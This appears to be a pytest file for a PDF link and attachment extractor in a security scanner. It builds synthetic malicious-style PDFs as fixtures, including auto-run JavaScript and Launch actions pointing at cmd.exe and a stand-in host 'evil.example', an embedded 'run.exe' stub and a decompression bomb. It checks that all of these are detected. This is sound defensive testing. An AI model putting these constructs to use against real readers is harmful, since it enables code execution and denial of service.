"""PDF documents: links, text, codes, embedded files, actions, passwords, broken ones."""

import hashlib
import struct
import zlib

import pytest
import qrcode

from submissions.extraction.types import Limits
from tests.extraction.opening import codes, names, opened, urls

PADDING = bytes.fromhex("28bf4e5e4e758a4164004e56fffa01082e2e00b6d0683e802f0ca9fe6453697a")


def pdf(*objects: bytes, root: bytes = b"", trailer: bytes = b"") -> bytes:
    """A document of one page. `objects` are numbered from 10; 10 is the annotation, 11 the picture."""
    page = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 600 800]/Contents 4 0 R/Annots[10 0 R]"
    page += b"/Resources<</Font<</F1<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>>>/XObject<</Im 11 0 R>>>>>>"
    content = b"BT /F1 12 Tf 50 700 Td (Visit https://text.example/page now) Tj ET q 300 0 0 300 100 200 cm /Im Do Q"
    numbered = {
        1: b"<</Type/Catalog/Pages 2 0 R" + root + b">>",
        2: b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        3: page,
        4: b"<</Length %d>>stream\n%s\nendstream" % (len(content), content),
        **dict(enumerate(objects, start=10)),
    }
    written, offsets = b"%PDF-1.7\n", {}
    for number, body in numbered.items():
        offsets[number] = len(written)
        written += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    table = b"".join(b"%d 1\n%010d 00000 n \n" % (number, offset) for number, offset in offsets.items())
    start = len(written)
    return written + b"xref\n0 1\n0000000000 65535 f \n%strailer\n<</Size 99/Root 1 0 R%s>>\nstartxref\n%d\n%%%%EOF" % (
        table,
        trailer,
        start,
    )


def link(target: bytes) -> bytes:
    return b"<</Type/Annot/Subtype/Link/Rect[0 0 100 100]/A<</S/URI/URI(%s)>>>>" % target


def picture(url: str) -> bytes:
    image = qrcode.make(url, border=4).get_image().convert("L")
    data = zlib.compress(image.tobytes())
    return (
        b"<</Type/XObject/Subtype/Image/Width %d/Height %d/ColorSpace/DeviceGray/BitsPerComponent 8"
        b"/Filter/FlateDecode/Length %d>>stream\n%s\nendstream" % (*image.size, len(data), data)
    )


def rc4(key: bytes, data: bytes) -> bytes:
    state = list(range(256))
    j = 0
    for i in range(256):
        j = (j + state[i] + key[i % len(key)]) & 0xFF
        state[i], state[j] = state[j], state[i]
    result, i, j = bytearray(), 0, 0
    for byte in data:
        i = (i + 1) & 0xFF
        j = (j + state[i]) & 0xFF
        state[i], state[j] = state[j], state[i]
        result.append(byte ^ state[(state[i] + state[j]) & 0xFF])
    return bytes(result)


def encrypted_pdf(password: bytes, target: bytes) -> bytes:
    """40-bit RC4, revision 2 (ISO 32000-1, section 7.6.3)."""
    padded = (password + PADDING)[:32]
    owner = rc4(hashlib.md5(padded).digest()[:5], padded)
    identity = b"0123456789abcdef"
    key = hashlib.md5(padded + owner + struct.pack("<i", -4) + identity).digest()[:5]
    user = rc4(key, PADDING)
    annotation_key = hashlib.md5(key + (10).to_bytes(3, "little") + bytes(2)).digest()[:10]
    annotation = (
        b"<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<</S/URI/URI<%s>>>>>" % rc4(annotation_key, target).hex().encode()
    )
    entry = b"/Encrypt<</Filter/Standard/V 1/R 2/O<%s>/U<%s>/P -4>>/ID[<%s><%s>]" % (
        owner.hex().encode(),
        user.hex().encode(),
        identity.hex().encode(),
        identity.hex().encode(),
    )
    return pdf(annotation, trailer=entry)


def test_it_finds_link_annotations_and_the_text() -> None:
    inside = opened(pdf(link(b"https://annotation.example/a?b=1")))

    assert [(found.url, found.place) for found in inside.links] == [("https://annotation.example/a?b=1", "annotation")]
    assert "https://text.example/page" in inside.text
    assert inside.problems == ()


def test_it_reads_a_code_in_the_rendered_page() -> None:
    inside = opened(pdf(link(b"https://a.example/"), picture("https://qr.example/login")))

    assert ("https://qr.example/login", "qr") in [(found.url, found.place) for found in inside.links]
    assert "code" in inside.notes


def test_it_takes_embedded_files_out() -> None:
    file = b"<</Type/EmbeddedFile/Length 4>>stream\nMZ!!\nendstream"
    specification = b"<</Type/Filespec/F(run.exe)/UF(run.exe)/EF<</F 12 0 R>>>>"
    root = b"/Names<</EmbeddedFiles<</Names[(run.exe) 13 0 R]>>>>"

    inside = opened(pdf(link(b"http://a.example/"), b"null", file, specification, root=root))

    assert [(member.name, member.content) for member in inside.members] == [("run.exe", b"MZ!!")]
    assert "embedded-files" in inside.notes


@pytest.mark.parametrize(
    ("root", "note"),
    [
        (b"/OpenAction<</S/JavaScript/JS(app.alert)>>", "javascript"),
        (b"/OpenAction<</S/J#61vaScript/JS(app.alert)>>", "javascript"),
        (b"/OpenAction<</S/Launch/F(cmd.exe)>>", "launch"),
        (b"/OpenAction<</S/GoTo>>", "open-action"),
        (b"/AA<</WC<</S/Named>>>>", "additional-actions"),
        (b"/OpenAction<</S/SubmitForm/F(https://a.example/)>>", "submit-form"),
    ],
)
def test_what_it_does_by_itself_is_noted(root: bytes, note: str) -> None:
    assert note in opened(pdf(link(b"http://a.example/"), root=root)).notes


def test_targets_of_actions_are_links() -> None:
    root = b"/OpenAction<</S/SubmitForm/F(https://form.example/post)>>/AA<</WC<</S/URI/URI<68747470733a2f2f6865782e6578616d706c65>>>>"

    inside = opened(pdf(link(b"http://a.example/"), root=root))

    assert {"https://form.example/post", "https://hex.example"} <= set(urls(inside))


@pytest.mark.parametrize(
    ("action", "target"),
    [
        (b"<</S/Launch/F(\\\\\\\\evil.example\\\\x\\\\a.exe)>>", "\\\\evil.example\\x\\a.exe"),
        (b"<</S/GoToR/F(\\\\\\\\evil.example\\\\x)/D[0/Fit]>>", "\\\\evil.example\\x"),
        (b"<</S/JavaScript/JS(app.launchURL\\('http://evil.example/x'\\))>>", "http://evil.example/x"),
    ],
)
def test_file_shares_and_addresses_in_scripts_are_links(action: bytes, target: str) -> None:
    assert target in urls(opened(pdf(link(b"http://a.example/"), root=b"/OpenAction" + action)))


def test_actions_in_packed_object_streams_are_found() -> None:
    packed = zlib.compress(b"20 0 <</S/URI/URI(https://hidden.example/\\(x\\))>>")
    stream = b"<</Type/ObjStm/N 1/First 5/Filter/FlateDecode/Length %d>>stream\n%s\nendstream" % (len(packed), packed)

    assert "https://hidden.example/(x)" in urls(opened(pdf(link(b"http://a.example/"), b"null", stream)))


def test_a_broken_document_still_gives_its_links() -> None:
    inside = opened(b"%PDF-1.7\n1 0 obj <</S/URI/URI(https://broken.example/)>> /JavaScript")

    assert urls(inside) == ["https://broken.example/"]
    assert codes(inside) == ["broken"]
    assert inside.notes == ("javascript",)


def test_a_password_from_the_mail_opens_it_as_a_member() -> None:
    locked = encrypted_pdf(b"geheim", b"https://locked.example/")

    inside = opened(locked, "bill.pdf", passwords=("wrong", "geheim"))
    inner = opened(inside.members[0].content)

    assert [(member.name, member.password, member.notes) for member in inside.members] == [
        ("bill.pdf", "geheim", ("decrypted",))
    ]
    assert inside.password == "geheim"
    assert "https://locked.example/" in urls(inner)


def test_a_document_that_no_password_opens_is_locked() -> None:
    inside = opened(encrypted_pdf(b"geheim", b"https://locked.example/"), passwords=("wrong",))

    assert codes(inside) == ["locked"]
    assert set(inside.notes) == {"encrypted", "locked"}


def test_a_document_encrypted_without_a_password_is_simply_read() -> None:
    inside = opened(encrypted_pdf(b"", b"https://locked.example/"))

    assert "https://locked.example/" in urls(inside)


def test_pages_over_the_limit_are_a_problem() -> None:
    inside = opened(pdf(link(b"http://a.example/")), limits=Limits(pdf_pages=0))

    assert codes(inside) == ["limit-pages"]


def test_a_page_of_five_kilometres_is_rendered_small() -> None:
    giant = pdf(link(b"http://a.example/"), picture("https://qr.example/")).replace(b"[0 0 600 800]", b"[0 0 9e6 9e6]")

    assert opened(giant).problems == ()


def deflated(size: int) -> bytes:
    packer = zlib.compressobj(9)
    parts = [packer.compress(bytes(1_000_000)) for _ in range(size // 1_000_000)]
    return b"".join(parts) + packer.flush()


@pytest.mark.parametrize("filters", [b"/FlateDecode", b"[/FlateDecode/FlateDecode]"])
def test_a_stream_that_unpacks_to_very_much_is_never_given_to_the_reader(filters: bytes) -> None:
    data = deflated(250_000_000)
    data = zlib.compress(data) if b"[" in filters else data
    bomb = b"<</Type/EmbeddedFile/Filter%s/Length %d>>stream\n%s\nendstream" % (filters, len(data), data)

    inside = opened(pdf(link(b"https://a.example/"), b"null", bomb))

    assert codes(inside) == ["limit-bytes"]
    assert urls(inside) == ["https://a.example/"]


def test_very_many_objects_cost_little() -> None:
    flood = b"%PDF-1.7\n" + b"/ObjStm stream\n" * 100_000

    assert codes(opened(flood)) == ["broken"]


def test_a_plain_document_has_neither_files_nor_notes() -> None:
    inside = opened(pdf(link(b"http://a.example/")))

    assert names(inside) == []
    assert inside.notes == ()
